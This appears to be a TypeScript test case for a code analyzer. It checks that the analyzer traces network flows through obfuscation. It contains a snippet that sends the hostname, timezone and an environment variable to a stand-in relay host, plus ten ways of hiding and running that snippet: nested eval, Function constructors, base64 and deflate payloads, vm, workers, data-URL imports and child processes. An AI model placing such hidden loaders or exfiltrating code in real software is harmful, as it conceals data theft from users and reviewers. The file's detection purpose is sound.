import assert from "node:assert/strict";
import { deflateSync } from "node:zlib";
import type { Attack } from "../attack.ts";
import { gist, read } from "./read.ts";

const plain = `const os = require("os");
module.exports = () => fetch("https://beat.example-relay.net/v1", { method: "POST", body: JSON.stringify({ h: os.hostname(), z: Intl.DateTimeFormat().resolvedOptions().timeZone, k: process.env.RELAY_TRACKING_ID }) });
`;
const bundled = plain.replace('require("os")', '__webpack_require__("os")');
const quoted = JSON.stringify(plain);
const packed = deflateSync(plain).toString("base64");

/** Programs that do what the plain one does, each in one file. */
const programs: Readonly<Record<string, string>> = {
  "bundle.js": `(() => {
  var modules = ({
    "./src/beat.js": ((module, exports, __webpack_require__) => {
      eval(${JSON.stringify(`${bundled}\n\n//# sourceURL=webpack://agent/./src/beat.js?`)});
    }),
    "os": ((module) => { "use strict"; module.exports = require("os"); })
  });
  var cache = {};
  function __webpack_require__(id) { var m = cache[id]; if (m) return m.exports; m = cache[id] = { exports: {} }; modules[id](m, m.exports, __webpack_require__); return m.exports; }
  __webpack_require__("./src/beat.js")();
})();
`,
  "nested.js": `eval(${JSON.stringify(`eval(${quoted})`)});\n`,
  "function.js": `new Function("module", "require", ${quoted})(module, require);\n`,
  "script.js": `const vm = require("vm");\nnew vm.Script(Buffer.from("${Buffer.from(plain).toString("base64")}", "base64").toString("utf8")).runInThisContext();\n`,
  "packed.js": `module._compile(require("zlib").inflateSync(Buffer.from("${packed}", "base64")).toString(), "a.js");\n`,
  "constructor.js": `(class {}).constructor("module", "require", ${quoted})(module, require);\n`,
  "handed.js": `[${quoted}].forEach(eval);\n`,
  "worker.js": `const { Worker } = require("worker_threads");\nnew Worker([${quoted}].join(""), { eval: true });\n`,
  "import.mjs": `await import("data:text/javascript," + "${encodeURIComponent(plain)}");\n`,
  "process.js": `require("child_process").spawn(process.execPath, ["-e", ${quoted}]);\n`,
};

export const codeInTexts: Attack = {
  name: "code-in-texts",
  title: "a program keeps its code in texts and runs it from there",
  async try(place) {
    place.write(`${place.folder}/plain.js`, plain);
    for (const [file, content] of Object.entries(programs))
      place.write(`${place.folder}/${file}`, content);
    place.write(
      `${place.folder}/made.js`,
      'eval(require("fs").readFileSync(process.argv[2], "utf8"));\n',
    );
    const expected = gist(await read(place, `${place.folder}/plain.js`));
    assert.deepEqual(expected["hosts"], ["beat.example-relay.net address plain"]);
    assert.equal(expected["flows"]?.length, 6);
    for (const file of Object.keys(programs)) {
      const report = await read(place, `${place.folder}/${file}`);
      assert.deepEqual(gist(report), expected, file);
      assert.equal(report.coverage.parsedCharacters, report.coverage.sourceCharacters, file);
    }
    const { coverage } = await read(place, `${place.folder}/made.js`);
    assert.ok(coverage.parsedCharacters < coverage.sourceCharacters);
    assert.deepEqual(coverage.limits, ["code made at run time at made.js:1:1: not read"]);
    return "the same hosts, variables and flows as without them; what is made at run time is said";
  },
};
